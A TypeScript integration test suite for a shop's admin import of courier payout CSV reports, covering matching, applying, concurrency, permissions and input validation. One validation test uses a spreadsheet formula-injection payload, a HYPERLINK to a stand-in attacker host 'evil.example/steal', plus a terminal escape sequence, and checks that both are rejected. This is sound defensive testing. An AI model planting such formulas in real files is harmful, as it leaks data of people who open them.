import { and, eq, inArray, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ProductDto } from '@shop/core/catalog/dtos';
import type { CourierBalanceDto, PayoutDetailDto, PayoutDto, PayoutLineDto, PayoutTotalsDto } from '@shop/core/couriers/admin-dtos';
import { PAYOUT_FILE_BYTES_MAX, PAYOUT_LINES_MAX } from '@shop/core/couriers/courier-payouts';
import { createTestApp, deliveryAddress, newAccount, seededAt, testDatabaseKinds, uniquePhone, type TestApp } from '../../../test/helpers';
import { auditLog } from '../../db/schema/audit';
import { courierPayoutLines, courierPayoutMappings, courierPayoutPreviews, courierPayouts } from '../../db/schema/couriers';
import { orders } from '../../db/schema/orders';
import { fixedClock } from '../../lib/clock';

const MINUTE_MS = 60_000;
const HEADER = 'CN Number,Consignee,COD Amount,Delivery Charges,Sales Tax';
const MAPPING = { trackingNumber: 'CN Number', codAmount: 'COD Amount', charges: 'Delivery Charges', tax: 'Sales Tax' };

type PreviewAnswer = { success: true; message: string; previewId: string; courier: string; lines: PayoutLineDto[]; totals: PayoutTotalsDto };

describe.each(testDatabaseKinds())('courier payouts on %s', (kind) => {
  let shop: TestApp;
  let adminToken: string;
  let customer: Awaited<ReturnType<typeof newAccount>>;
  let product: ProductDto;
  const clock = fixedClock(new Date());
  /** Tracking numbers no seeded order has: each test's parcels are its own. */
  let parcelCounter = 0;
  const tag = `Q${process.pid % 10_000}${kind === 'pglite' ? 'L' : 'P'}`;

  beforeAll(async () => {
    clock.set(new Date(seededAt().getTime() + MINUTE_MS));
    shop = await createTestApp(kind, { clock });
    adminToken = (await newAccount(shop, 'admin')).token;
    customer = await newAccount(shop);
    const listed: ProductDto[] = (await shop.app.inject({ method: 'GET', url: '/api/product/list' })).json().products;
    product = listed.find((candidate) => candidate.quantity >= 60 && candidate.discountprice === 0)!;
  });
  afterAll(async () => shop?.close());

  const db = () => shop.database.db;
  const admin = (method: 'GET' | 'POST', url: string, payload?: object) =>
    shop.app.inject({ method, url, headers: { token: adminToken }, ...(payload ? { payload } : {}) });

  /** Places a cash-on-delivery order of one unit of the product; answers its id and total in rupees. */
  const place = async () => {
    clock.advance(MINUTE_MS);
    const { fixedCharge, freeDeliveryAbove } = (await shop.app.inject({ method: 'GET', url: '/api/delivery-settings' })).json().settings;
    const deliveryCharges = freeDeliveryAbove > 0 && product.price >= freeDeliveryAbove ? 0 : fixedCharge;
    const response = await shop.app.inject({
      method: 'POST',
      url: '/api/order/place',
      headers: { token: customer.token },
      payload: {
        address: { ...deliveryAddress, phone: uniquePhone() },
        items: [{ id: product._id, quantity: 1 }],
        amount: product.price + deliveryCharges,
        deliveryCharges,
        method: 'COD',
      },
    });
    expect(response.statusCode, response.body).toBe(201);
    return { id: response.json().orderId as string, amount: product.price + deliveryCharges };
  };
  const move = async (id: string, status: string, fields: object = {}) => {
    const response = await admin('POST', `/api/admin/orders/${id}/status`, { status, ...fields });
    expect(response.statusCode, response.body).toBe(200);
  };
  /** An order shipped with Leopards under a tracking number printed with spaces, as couriers print them. */
  const shipped = async () => {
    parcelCounter += 1;
    const trackingNumber = `LE ${tag} ${String(parcelCounter).padStart(4, '0')}`;
    const order = await place();
    await move(order.id, 'Packing');
    await move(order.id, 'Shipped', { courier: 'Leopards', trackingNumber });
    return { ...order, trackingNumber, written: trackingNumber.replace(/ /g, '').toLowerCase() };
  };
  const delivered = async () => {
    const order = await shipped();
    await move(order.id, 'Out for delivery');
    await move(order.id, 'Delivered');
    return order;
  };

  /** A multipart form as the console's upload sends it. */
  const form = async (file: Uint8Array | string, fields: Record<string, string>, fileName = 'leopards-payout.csv') => {
    const body = new FormData();
    for (const [key, value] of Object.entries(fields)) body.append(key, value);
    body.append('file', new Blob([typeof file === 'string' ? Buffer.from(file, 'utf8') : file], { type: 'text/csv' }), fileName);
    const encoded = new Response(body);
    return { payload: Buffer.from(await encoded.arrayBuffer()), contentType: encoded.headers.get('content-type')! };
  };
  const upload = async (url: string, file: Uint8Array | string, fields: Record<string, string>, token = adminToken) => {
    const { payload, contentType } = await form(file, fields);
    return shop.app.inject({ method: 'POST', url, headers: { token, 'content-type': contentType }, payload });
  };
  const previewFile = (file: Uint8Array | string, mapping: object | string = MAPPING, courier = 'Leopards') =>
    upload('/api/admin/courier-payouts/preview', file, { courier, mapping: typeof mapping === 'string' ? mapping : JSON.stringify(mapping) });
  const previewed = async (file: Uint8Array | string, mapping: object = MAPPING) => {
    const response = await previewFile(file, mapping);
    expect(response.statusCode, response.body).toBe(201);
    return response.json() as PreviewAnswer;
  };
  const apply = (previewId: string, offers: { markDelivered?: string[]; markReturned?: { trackingNumber: string; restock: boolean }[] } = {}) =>
    admin('POST', '/api/admin/courier-payouts', { previewId, ...offers });
  const csv = (...rows: string[]) => [HEADER, ...rows].join('\r\n') + '\r\n';

  const orderRow = async (id: string) => (await db().select().from(orders).where(eq(orders.id, id)))[0]!;
  /** The product's stock as the shop shows it: a restock must reach the cached catalog too. */
  const stockOf = async () => {
    const response = await shop.app.inject({ method: 'GET', url: `/api/products?ids=${product._id}` });
    expect(response.statusCode, response.body).toBe(200);
    return (response.json().products as ProductDto[])[0]!.quantity;
  };
  const paidLinesOf = (orderIds: string[]) =>
    db()
      .select({ orderId: courierPayoutLines.orderId, lines: sql<number>`count(*)::int` })
      .from(courierPayoutLines)
      .where(inArray(courierPayoutLines.orderId, orderIds))
      .groupBy(courierPayoutLines.orderId);
  const rowCounts = async () => {
    const [counted] = await db()
      .select({
        previews: sql<number>`(select count(*)::int from ${courierPayoutPreviews})`,
        payouts: sql<number>`(select count(*)::int from ${courierPayouts})`,
        lines: sql<number>`(select count(*)::int from ${courierPayoutLines})`,
        applied: sql<number>`(select count(*)::int from ${courierPayoutPreviews} where ${courierPayoutPreviews.appliedAt} is not null)`,
      })
      .from(sql`(select 1) as one`);
    return counted!;
  };

  describe('a payout with every kind of line', () => {
    let paidBefore: Awaited<ReturnType<typeof delivered>>;
    let firstPayoutId: string;
    let matched: Awaited<ReturnType<typeof delivered>>;
    let short: Awaited<ReturnType<typeof delivered>>;
    let onItsWay: Awaited<ReturnType<typeof shipped>>;
    let comingBack: Awaited<ReturnType<typeof shipped>>;
    let report: string;
    let preview: PreviewAnswer;

    beforeAll(async () => {
      paidBefore = await delivered();
      // The first payout, typed by hand: it pays one parcel, so the report below names a parcel paid before.
      const typed = await admin('POST', '/api/admin/courier-payouts/preview', {
        courier: 'leopards',
        lines: [{ trackingNumber: paidBefore.trackingNumber, codAmount: paidBefore.amount, charges: 150, tax: 20 }],
      });
      expect(typed.statusCode, typed.body).toBe(201);
      const first = await apply(typed.json().previewId);
      expect(first.statusCode, first.body).toBe(201);
      firstPayoutId = first.json().payout._id;

      matched = await delivered();
      short = await delivered();
      onItsWay = await shipped();
      comingBack = await shipped();
      await move(comingBack.id, 'Out for delivery');
      report = csv(
        `${matched.written},"Khan, Ayesha",${matched.amount},150,20`,
        `${short.written},Ayesha Khan,"Rs. ${(short.amount - 200).toLocaleString('en-US')}",150,20`,
        `${onItsWay.trackingNumber},Ayesha Khan,${onItsWay.amount},150,20`,
        `${comingBack.written},Ayesha Khan,0,180,`,
        `LE${tag}9999,Someone Else,1500,150,20`,
        `${paidBefore.written},Ayesha Khan,${paidBefore.amount},150,20`,
        ',,,,',
      );
    });

    it('reads the columns, guesses the mapping from their names, and counts the lines', async () => {
      const response = await upload('/api/admin/courier-payouts/columns', report, { courier: 'Leopards' });
      expect(response.statusCode, response.body).toBe(200);
      expect(response.json().report).toEqual({
        courier: 'Leopards',
        columns: ['CN Number', 'Consignee', 'COD Amount', 'Delivery Charges', 'Sales Tax'],
        sample: [
          [matched.written, 'Khan, Ayesha', String(matched.amount), '150', '20'],
          [short.written, 'Ayesha Khan', `Rs. ${(short.amount - 200).toLocaleString('en-US')}`, '150', '20'],
          [onItsWay.trackingNumber, 'Ayesha Khan', String(onItsWay.amount), '150', '20'],
        ],
        rows: 6,
        mapping: MAPPING,
        kept: false,
      });
    });

    it('previews every line matched to its order, with the differences and totals, applying nothing', async () => {
      const before = await rowCounts();
      preview = await previewed(report);
      expect(preview.courier).toBe('Leopards');
      expect(preview.message).toBe('6 parcels: 1 matched, 1 paid Rs. 200.00 short, 1 not delivered yet, 1 returned, 1 matching no order, 1 paid before');
      const byLine = preview.lines.map((line) => [
        line.line,
        line.match,
        line.orderId,
        line.codAmount,
        line.charges,
        line.tax,
        line.difference,
        line.paidInPayoutId,
      ]);
      expect(byLine).toEqual([
        [2, 'matched', matched.id, matched.amount, 150, 20, 0, null],
        [3, 'amount-differs', short.id, short.amount - 200, 150, 20, -200, null],
        [4, 'not-delivered', onItsWay.id, onItsWay.amount, 150, 20, 0, null],
        [5, 'returned', comingBack.id, 0, 180, 0, null, null],
        [6, 'unknown', null, 1500, 150, 20, null, null],
        [7, 'already-paid', paidBefore.id, paidBefore.amount, 150, 20, null, firstPayoutId],
      ]);
      expect(preview.lines[1]).toMatchObject({
        orderNumber: short.id.slice(0, 7),
        orderStatus: 'Delivered',
        orderAmount: short.amount,
        customerName: 'Ayesha Khan',
      });
      expect(preview.lines[3]!.orderStatus).toBe('Out for delivery');
      const cash = matched.amount + short.amount - 200 + onItsWay.amount;
      expect(preview.totals).toEqual({
        lines: 6,
        matched: 1,
        amountDiffers: 1,
        notDelivered: 1,
        returned: 1,
        unknown: 1,
        alreadyPaid: 1,
        cash,
        charges: 150 * 3 + 180,
        tax: 60,
        net: cash - 630 - 60,
        shortfall: 200,
        excess: 0,
      });
      // Only the preview is kept: no payout, no line, no order moved.
      expect(await rowCounts()).toEqual({ ...before, previews: before.previews + 1 });
      expect((await orderRow(onItsWay.id)).status).toBe('Shipped');
    });

    it('keeps the mapping for the courier: the next report with those columns starts from it', async () => {
      const withoutTax = { trackingNumber: 'CN Number', codAmount: 'COD Amount', charges: 'Delivery Charges' };
      await previewed(report, withoutTax);
      const [kept] = await db().select().from(courierPayoutMappings).where(eq(courierPayoutMappings.courier, 'Leopards'));
      expect(kept?.mapping).toEqual(withoutTax);
      const response = await upload('/api/admin/courier-payouts/columns', report, { courier: 'LEOPARDS' });
      expect(response.statusCode, response.body).toBe(200);
      expect(response.json().report).toMatchObject({ courier: 'Leopards', mapping: withoutTax, kept: true });
      // A report without the columns the kept mapping names gets a guess from its own names instead.
      const other = await upload('/api/admin/courier-payouts/columns', 'Tracking No;Cash Collected\nLE1;100\n', { courier: 'Leopards' });
      expect(other.statusCode, other.body).toBe(200);
      expect(other.json().report).toMatchObject({
        columns: ['Tracking No', 'Cash Collected'],
        mapping: { trackingNumber: 'Tracking No', codAmount: 'Cash Collected' },
        kept: false,
      });
    });

    it('applies it with the offers accepted: deliveries, a return with its stock and charge, every line recorded, audited', async () => {
      const stockBefore = await stockOf();
      const leopardsBalance = async () => {
        const balances = await admin('GET', '/api/admin/couriers/balances');
        expect(balances.statusCode, balances.body).toBe(200);
        return (balances.json().couriers as CourierBalanceDto[]).find((balance) => balance.courier === 'Leopards')!;
      };
      const owedBefore = await leopardsBalance();
      const response = await apply(preview.previewId, {
        markDelivered: [onItsWay.written],
        markReturned: [{ trackingNumber: comingBack.trackingNumber, restock: true }],
      });
      expect(response.statusCode, response.body).toBe(201);
      const payout = response.json().payout as PayoutDetailDto;
      expect(response.json().message).toBe(
        `Payout from Leopards applied: 4 parcels paid, Rs. ${preview.totals.net.toLocaleString('en-US', { minimumFractionDigits: 2 })} net, Rs. 200.00 short, 1 marked Delivered, 1 marked Returned`,
      );
      expect(payout).toMatchObject({ courier: 'Leopards', fileName: 'leopards-payout.csv', markedDelivered: 1, markedReturned: 1, totals: preview.totals });
      expect(payout.appliedBy).not.toBeNull();
      expect(payout.lines.map((line) => [line.line, line.match, line.orderId, line.orderStatus, line.difference, line.paidInPayoutId])).toEqual([
        [2, 'matched', matched.id, 'Delivered', 0, null],
        [3, 'amount-differs', short.id, 'Delivered', -200, null],
        [4, 'not-delivered', onItsWay.id, 'Delivered', 0, null],
        [5, 'returned', comingBack.id, 'Returned', null, null],
        [6, 'unknown', null, null, null, null],
        [7, 'already-paid', paidBefore.id, 'Delivered', null, firstPayoutId],
      ]);

      const delivery = await orderRow(onItsWay.id);
      expect(delivery).toMatchObject({ status: 'Delivered', paid: true, deliveredAt: clock.now() });
      const returned = await orderRow(comingBack.id);
      expect(returned).toMatchObject({
        status: 'Returned',
        returnReason: 'Returned by Leopards (payout report)',
        returnChargePaisa: 18_000,
        stockReturned: true,
      });
      expect(await stockOf()).toBe(stockBefore + 1);

      const stored = await db()
        .select({
          orderId: courierPayoutLines.orderId,
          match: courierPayoutLines.match,
          cash: courierPayoutLines.cashPaisa,
          difference: courierPayoutLines.differencePaisa,
        })
        .from(courierPayoutLines)
        .where(eq(courierPayoutLines.payoutId, payout._id))
        .orderBy(courierPayoutLines.line);
      expect(stored).toEqual([
        { orderId: matched.id, match: 'matched', cash: matched.amount * 100, difference: 0 },
        { orderId: short.id, match: 'amount-differs', cash: (short.amount - 200) * 100, difference: -20_000 },
        { orderId: onItsWay.id, match: 'not-delivered', cash: onItsWay.amount * 100, difference: 0 },
        { orderId: comingBack.id, match: 'returned', cash: 0, difference: null },
        { orderId: null, match: 'unknown', cash: 150_000, difference: null },
        { orderId: null, match: 'already-paid', cash: paidBefore.amount * 100, difference: null },
      ]);

      const [entry] = await db()
        .select()
        .from(auditLog)
        .where(and(eq(auditLog.entity, 'courier_payout'), eq(auditLog.entityId, payout._id)));
      expect(entry).toMatchObject({ action: 'apply', changes: { before: null, after: preview.totals } });

      // What Leopards owes moves by exactly what the payout paid: the two delivered parcels leave the
      // outstanding cash, the one it reported delivered joins delivered and paid, the Rs. 200 is a shortfall.
      const owedAfter = await leopardsBalance();
      const cents = (rupees: number) => Math.round(rupees * 100);
      expect(cents(owedAfter.outstanding)).toBe(cents(owedBefore.outstanding) - (matched.amount + short.amount) * 100);
      expect(cents(owedAfter.delivered)).toBe(cents(owedBefore.delivered) + onItsWay.amount * 100);
      expect(cents(owedAfter.paid)).toBe(cents(owedBefore.paid) + (matched.amount + short.amount - 200 + onItsWay.amount) * 100);
      expect(cents(owedAfter.shortfalls)).toBe(cents(owedBefore.shortfalls) + 20_000);
      expect(cents(owedAfter.returnCharges)).toBe(cents(owedBefore.returnCharges) + 18_000);
      expect(owedAfter.payouts).toBe(owedBefore.payouts + 1);
      // The order as the owner opens it says what the payout said of it.
      const shortOrder = await admin('GET', `/api/admin/orders/${short.id}`);
      expect(shortOrder.json().order.courierPayout).toMatchObject({ payoutId: payout._id, cash: short.amount - 200, difference: -200 });
      expect((await admin('GET', `/api/admin/orders/${comingBack.id}`)).json().order).toMatchObject({
        returnCharge: 180,
        courierPayout: { payoutId: payout._id, cash: 0 },
      });

      await shop.outbox.idle();
      const subjects = shop.sentMail.filter((mail) => mail.to === customer.email).map((mail) => mail.subject);
      expect(subjects.some((subject) => subject.startsWith(`Order #${onItsWay.id.slice(0, 7)}: Delivered`))).toBe(true);
      expect(subjects.some((subject) => subject.startsWith(`Order #${comingBack.id.slice(0, 7)}: Returned`))).toBe(true);
    });

    it('lists the payouts newest first with their totals, one courier’s, and shows each', async () => {
      const list = await admin('GET', '/api/admin/courier-payouts?courier=leopards&limit=2');
      expect(list.statusCode, list.body).toBe(200);
      const payouts = list.json().payouts as PayoutDto[];
      expect(payouts[0]!.totals).toEqual(preview.totals);
      expect(payouts.map((payout) => payout.courier)).toEqual(['Leopards', 'Leopards']);
      expect(list.json()).toMatchObject({ limit: 2, offset: 0 });
      expect(list.json().total).toBeGreaterThanOrEqual(2);
      const none = await admin('GET', '/api/admin/courier-payouts?courier=Trax');
      expect(none.json()).toMatchObject({ payouts: [], total: 0 });

      const first = await admin('GET', `/api/admin/courier-payouts/${firstPayoutId}`);
      expect(first.statusCode, first.body).toBe(200);
      expect(first.json().payout).toMatchObject({
        _id: firstPayoutId,
        fileName: null,
        totals: { lines: 1, matched: 1, cash: paidBefore.amount, charges: 150, tax: 20 },
      });
      const missing = await admin('GET', '/api/admin/courier-payouts/no-such-payout');
      expect(missing.statusCode).toBe(404);
      expect(missing.json().code).toBe('PAYOUT_NOT_FOUND');
    });

    it('the same report again: every parcel paid before, the unknown one still unknown, and applying it changes nothing', async () => {
      const again = await previewed(report);
      expect(again.lines.map((line) => line.match)).toEqual(['already-paid', 'already-paid', 'already-paid', 'already-paid', 'unknown', 'already-paid']);
      expect(again.totals).toMatchObject({ alreadyPaid: 5, unknown: 1, cash: 0, net: 0 });
      expect(again.message).toBe('6 parcels: 1 matching no order, 5 paid before: nothing to apply');
      const before = await rowCounts();
      const stockBefore = await stockOf();
      const response = await apply(again.previewId);
      expect(response.statusCode, response.body).toBe(409);
      expect(response.json().code).toBe('PAYOUT_NOTHING_TO_APPLY');
      expect(await rowCounts()).toEqual(before);
      expect(await stockOf()).toBe(stockBefore);
      expect(await paidLinesOf([matched.id, short.id, onItsWay.id, comingBack.id, paidBefore.id])).toHaveLength(5);

      const allPaid = await previewed(csv(`${matched.written},A,${matched.amount},0,0`));
      expect(allPaid.message).toBe('Every parcel in this report was paid before: nothing to apply');
    });
  });

  describe('applying at the same time', () => {
    it('the same preview twice in a row: the second is refused as applied before', async () => {
      const parcel = await delivered();
      const preview = await previewed(csv(`${parcel.written},A,${parcel.amount},100,10`));
      expect((await apply(preview.previewId)).statusCode).toBe(201);
      const second = await apply(preview.previewId);
      expect(second.statusCode, second.body).toBe(409);
      expect(second.json().code).toBe('PAYOUT_ALREADY_APPLIED');
      expect(await paidLinesOf([parcel.id])).toEqual([{ orderId: parcel.id, lines: 1 }]);
    });

    it('two owners applying one preview at once: exactly one payout', async () => {
      const parcels = [await delivered(), await delivered()];
      const preview = await previewed(csv(...parcels.map((parcel) => `${parcel.written},A,${parcel.amount},100,10`)));
      const before = await rowCounts();
      const answers = await Promise.all([apply(preview.previewId), apply(preview.previewId)]);
      expect(answers.map((answer) => answer.statusCode).sort()).toEqual([201, 409]);
      expect(answers.find((answer) => answer.statusCode === 409)!.json().code).toBe('PAYOUT_ALREADY_APPLIED');
      expect(await rowCounts()).toEqual({ ...before, payouts: before.payouts + 1, lines: before.lines + 2, applied: before.applied + 1 });
    });

    it('two previews of the same report applied at once: each parcel paid once', async () => {
      const parcels = [await delivered(), await delivered(), await shipped()];
      const report = csv(...parcels.map((parcel) => `${parcel.written},A,${parcel.amount},100,10`));
      const [one, two] = [await previewed(report), await previewed(report)];
      const stockBefore = await stockOf();
      const answers = await Promise.all([
        apply(one.previewId, { markDelivered: [parcels[2]!.trackingNumber] }),
        apply(two.previewId, { markDelivered: [parcels[2]!.trackingNumber] }),
      ]);
      expect(answers.map((answer) => answer.statusCode).sort()).toEqual([201, 409]);
      expect(answers.find((answer) => answer.statusCode === 409)!.json().code).toBe('PAYOUT_NOTHING_TO_APPLY');
      const counted = await paidLinesOf(parcels.map((parcel) => parcel.id));
      expect(counted.map((row) => row.lines)).toEqual([1, 1, 1]);
      expect((await orderRow(parcels[2]!.id)).status).toBe('Delivered');
      expect(await stockOf()).toBe(stockBefore);
    });
  });

  describe('offers', () => {
    it('refuses a tracking number the preview does not offer to move, and the preview still applies afterwards', async () => {
      const onItsWay = await shipped();
      const done = await delivered();
      const preview = await previewed(csv(`${onItsWay.written},A,${onItsWay.amount},100,0`, `${done.written},A,${done.amount},100,0`));
      const before = await rowCounts();
      for (const offers of [
        { markDelivered: [done.trackingNumber] },
        { markDelivered: ['LE0000000'] },
        { markReturned: [{ trackingNumber: onItsWay.trackingNumber, restock: true }] },
      ]) {
        const refused = await apply(preview.previewId, offers);
        expect(refused.statusCode, refused.body).toBe(400);
        expect(refused.json().code).toBe('PAYOUT_OFFER_UNKNOWN');
      }
      const named = await apply(preview.previewId, { markDelivered: [done.trackingNumber] });
      expect(named.json().message).toContain(done.trackingNumber);
      expect(await rowCounts()).toEqual(before);
      expect((await orderRow(onItsWay.id)).status).toBe('Shipped');

      const accepted = await apply(preview.previewId);
      expect(accepted.statusCode, accepted.body).toBe(201);
      // Not accepted: the parcel is recorded as paid, and stays Shipped for the owner to move.
      expect(accepted.json().payout).toMatchObject({ markedDelivered: 0, totals: { notDelivered: 1, matched: 1 } });
      expect((await orderRow(onItsWay.id)).status).toBe('Shipped');
    });

    it('an order moved since the preview is judged as it is now', async () => {
      const parcel = await shipped();
      const preview = await previewed(csv(`${parcel.written},A,0,200,0`));
      expect(preview.lines[0]!.match).toBe('returned');
      await move(parcel.id, 'Returned', { reason: 'Refused at the door', restock: false });
      const refused = await apply(preview.previewId, { markReturned: [{ trackingNumber: parcel.trackingNumber, restock: true }] });
      expect(refused.statusCode, refused.body).toBe(400);
      expect(refused.json().code).toBe('PAYOUT_OFFER_UNKNOWN');
      const applied = await apply(preview.previewId);
      expect(applied.statusCode, applied.body).toBe(201);
      expect(await orderRow(parcel.id)).toMatchObject({
        status: 'Returned',
        returnReason: 'Refused at the door',
        returnChargePaisa: 20_000,
        stockReturned: false,
      });
    });

    it('answers 404 for a preview that does not exist', async () => {
      const response = await apply('no-such-preview');
      expect(response.statusCode).toBe(404);
      expect(response.json().code).toBe('PAYOUT_PREVIEW_NOT_FOUND');
    });
  });

  describe('bad input is refused with the line to fix, and nothing is kept', () => {
    let parcel: Awaited<ReturnType<typeof delivered>>;
    let before: Awaited<ReturnType<typeof rowCounts>>;
    beforeAll(async () => {
      parcel = await delivered();
      before = await rowCounts();
    });

    const refused = async (response: Awaited<ReturnType<typeof previewFile>>, status: number, code: string, line?: number) => {
      expect(response.statusCode, response.body).toBe(status);
      expect(response.json()).toMatchObject({ success: false, code, ...(line === undefined ? {} : { line }) });
      expect(await rowCounts()).toEqual(before);
      return response.json() as { message: string; fields?: string[] };
    };

    it('formulas in an amount or the tracking number', async () => {
      const amount = await refused(await previewFile(csv(`${parcel.written},A,${parcel.amount},0,0`, 'LE77,B,=SUM(C2:C3),0,0')), 400, 'PAYOUT_LINE_INVALID', 3);
      expect(amount.message).toBe("Line 3: 'COD Amount' holds '=SUM(C2:C3)', which is not an amount in rupees");
      const link = '=HYPERLINK("http://evil.example/steal?x=1","LE12345")';
      const tracking = await refused(await previewFile(csv(`"${link.replace(/"/g, '""')}",A,100,0,0`)), 400, 'PAYOUT_LINE_INVALID', 2);
      expect(tracking.message).toContain(`'CN Number' holds '${link.slice(0, 40)}…'`);
      const controls = await refused(await previewFile(csv('LE1,A,"12\u001b[31m",0,0')), 400, 'PAYOUT_LINE_INVALID', 2);
      expect(controls.message).toContain("holds '12?[31m'");
    });

    it('negative and huge amounts, and a line with amounts but no tracking number', async () => {
      await refused(await previewFile(csv(`${parcel.written},A,-500,0,0`)), 400, 'PAYOUT_LINE_INVALID', 2);
      const huge = await refused(await previewFile(csv(`${parcel.written},A,100,20000000,0`)), 400, 'PAYOUT_LINE_INVALID', 2);
      expect(huge.message).toBe("Line 2: 'Delivery Charges' holds '20000000', which is not an amount in rupees");
      const empty = await refused(await previewFile(csv(`${parcel.written},A,100,0,0`, ',B,250,10,0')), 400, 'PAYOUT_LINE_INVALID', 3);
      expect(empty.message).toBe("Line 3: the tracking number ('CN Number') is empty");
    });

    it('a tracking number twice, however it is spaced', async () => {
      const twice = await refused(
        await previewFile(csv(`${parcel.written},A,${parcel.amount},0,0`, `LE${tag}X1,B,100,0,0`, `${parcel.trackingNumber.toUpperCase()},C,100,0,0`)),
        400,
        'PAYOUT_LINE_INVALID',
        4,
      );
      expect(twice.message).toBe(`Line 4: tracking number '${parcel.trackingNumber.toUpperCase()}' ('CN Number') is already on line 2`);
    });

    it(`more than ${PAYOUT_LINES_MAX} lines (100,000 rows), and none`, async () => {
      const rows = Array.from({ length: 100_000 }, (_, index) => `LE${index},A,100,10,1`);
      await refused(await previewFile(csv(...rows)), 400, 'PAYOUT_TOO_MANY_LINES', PAYOUT_LINES_MAX + 2);
      await refused(await previewFile(csv(',,,,', '')), 400, 'PAYOUT_EMPTY');
      await refused(await previewFile(''), 400, 'PAYOUT_EMPTY');
    });

    it('a file over the size limit', async () => {
      const large = Buffer.alloc(PAYOUT_FILE_BYTES_MAX + 1, 'a');
      await refused(await previewFile(large), 413, 'REQUEST_TOO_LARGE');
    });

    it('Windows-1252 bytes, UTF-16 without its mark, and CSV the parser cannot read', async () => {
      const latin = Buffer.concat([
        Buffer.from(`${HEADER}\r\n${parcel.written},Karachi `, 'utf8'),
        Buffer.from([0xe9]),
        Buffer.from(`,${parcel.amount},0,0\r\n`),
      ]);
      const unreadable = await refused(await previewFile(latin), 400, 'PAYOUT_FILE_UNREADABLE');
      expect(unreadable.message).toBe("This file is not a CSV report we can read. Save the report as 'CSV UTF-8' and upload it again.");
      await refused(await previewFile(Buffer.from(csv(`${parcel.written},A,${parcel.amount},0,0`), 'utf16le')), 400, 'PAYOUT_FILE_UNREADABLE');
      const quote = await refused(
        await previewFile(csv(`${parcel.written},A,${parcel.amount},0,0`, 'LE2,"Flat 4\nBlock B,100,0,0', 'LE3,C,100,0,0')),
        400,
        'PAYOUT_FILE_UNREADABLE',
        3,
      );
      expect(quote.message).toMatch(/^Line 3 cannot be read as CSV: a quote is opened and not closed/);
    });

    it('a mapping naming a column the report lacks, mapping that is not JSON, an unknown courier', async () => {
      const missing = await refused(await previewFile(csv(`${parcel.written},A,100,0,0`), { ...MAPPING, tax: 'WHT' }), 400, 'PAYOUT_COLUMN_MISSING', 1);
      expect(missing.message).toBe("This report has no column 'WHT'. Its columns are 'CN Number', 'Consignee', 'COD Amount', 'Delivery Charges', 'Sales Tax'.");
      const notJson = await refused(await previewFile(csv(`${parcel.written},A,100,0,0`), '{trackingNumber: CN Number'), 400, 'INVALID_REQUEST');
      expect(notJson.fields).toEqual(['mapping']);
      const incomplete = await refused(await previewFile(csv(`${parcel.written},A,100,0,0`), { trackingNumber: 'CN Number' }), 400, 'INVALID_REQUEST');
      expect(incomplete.fields).toEqual(['mapping.codAmount']);
      const courier = await refused(await previewFile(csv(`${parcel.written},A,100,0,0`), MAPPING, 'Speedy Express'), 400, 'INVALID_REQUEST');
      expect(courier.fields).toEqual(['courier']);
      expect(courier.message).toMatch(/^courier must be one of the shop's couriers: .*Leopards/);
    });

    it('typed lines: checked as a file’s, numbered from 1', async () => {
      const typed = (lines: object[], courier = 'Leopards') => admin('POST', '/api/admin/courier-payouts/preview', { courier, lines });
      const twice = await refused(
        await typed([
          { trackingNumber: parcel.trackingNumber, codAmount: parcel.amount },
          { trackingNumber: parcel.written, codAmount: 1 },
        ]),
        400,
        'PAYOUT_LINE_INVALID',
        2,
      );
      expect(twice.message).toContain('already on line 1');
      await refused(await typed([{ trackingNumber: '=1+1', codAmount: 5 }]), 400, 'PAYOUT_LINE_INVALID', 1);
      const negative = await refused(await typed([{ trackingNumber: 'LE1', codAmount: -5 }]), 400, 'INVALID_REQUEST');
      expect(negative.fields).toEqual(['lines.0.codAmount']);
      const none = await refused(await typed([]), 400, 'INVALID_REQUEST');
      expect(none.fields).toEqual(['lines']);
      const body = await refused(await admin('POST', '/api/admin/courier-payouts/preview'), 400, 'INVALID_REQUEST');
      expect(body.message).toBe('Send the fields as a JSON object');
    });

    it('only the owner may read, preview or apply a payout', async () => {
      const stranger = await upload(
        '/api/admin/courier-payouts/preview',
        csv(`${parcel.written},A,100,0,0`),
        { courier: 'Leopards', mapping: JSON.stringify(MAPPING) },
        customer.token,
      );
      expect(stranger.statusCode).toBe(403);
      const nobody = await shop.app.inject({ method: 'POST', url: '/api/admin/courier-payouts', payload: { previewId: 'x' } });
      expect(nobody.statusCode).toBe(401);
      const list = await shop.app.inject({ method: 'GET', url: '/api/admin/courier-payouts', headers: { token: customer.token } });
      expect(list.statusCode).toBe(403);
      expect(await rowCounts()).toEqual(before);
    });
  });

  describe('files as spreadsheets save them', () => {
    it('a UTF-8 byte order mark, UTF-16 with its mark, semicolons, and quoted line breaks keep their line numbers', async () => {
      const parcels = [await delivered(), await delivered(), await delivered()];
      const bom = await previewed(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv(`${parcels[0]!.written},A,${parcels[0]!.amount},0,0`))]));
      expect(bom.lines.map((line) => [line.line, line.match])).toEqual([[2, 'matched']]);

      const utf16 = Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(csv(`${parcels[0]!.written},Zoë Ahmed,${parcels[0]!.amount},0,0`).replace(/,/g, '\t'), 'utf16le'),
      ]);
      const wide = await previewed(utf16);
      expect(wide.lines.map((line) => [line.line, line.match])).toEqual([[2, 'matched']]);

      const semicolons = await previewed(`${HEADER.replace(/,/g, ';')}\n${parcels[1]!.written};A;"${parcels[1]!.amount}";0;0\n`);
      expect(semicolons.lines.map((line) => [line.line, line.match])).toEqual([[2, 'matched']]);

      const multiline = csv(
        `${parcels[1]!.written},"Flat 4\r\nBlock B\r\nGulberg",${parcels[1]!.amount},0,0`,
        '',
        `${parcels[2]!.written},"C",${parcels[2]!.amount},0,0`,
      );
      const read = await previewed(multiline);
      expect(read.lines.map((line) => [line.line, line.trackingNumber])).toEqual([
        [2, parcels[1]!.written],
        [6, parcels[2]!.written],
      ]);
      const refusedLater = await previewFile(
        csv(`${parcels[1]!.written},"Flat 4\r\nBlock B\r\nGulberg",${parcels[1]!.amount},0,0`, '', `${parcels[2]!.written},"C",-1,0,0`),
      );
      expect(refusedLater.statusCode).toBe(400);
      expect(refusedLater.json()).toMatchObject({ code: 'PAYOUT_LINE_INVALID', line: 6 });
    });
  });
});
